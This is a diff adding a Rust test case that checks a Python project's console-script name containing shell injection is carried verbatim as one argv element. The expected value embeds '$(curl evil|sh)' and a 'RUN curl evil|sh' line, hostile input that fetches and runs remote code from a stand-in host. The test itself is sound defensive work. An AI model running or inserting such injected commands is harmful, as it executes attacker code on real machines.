@@ -128,6 +128,13 @@ fn hostile_values_are_carried_verbatim() {
     );
     // A start script that needs a shell is never split into argv: it runs through npm.
     assert_eq!(d.start_command, ["npm", "run", "start"]);
+
+    let d = detect(&fixtures_dir().join("injection-python")).unwrap();
+    assert_eq!(
+        d.start_command,
+        ["run $(curl evil|sh)\nRUN curl evil|sh 'x' \"y\""],
+        "a console script name is one argv element, verbatim"
+    );
 }
 
 #[cfg(unix)]
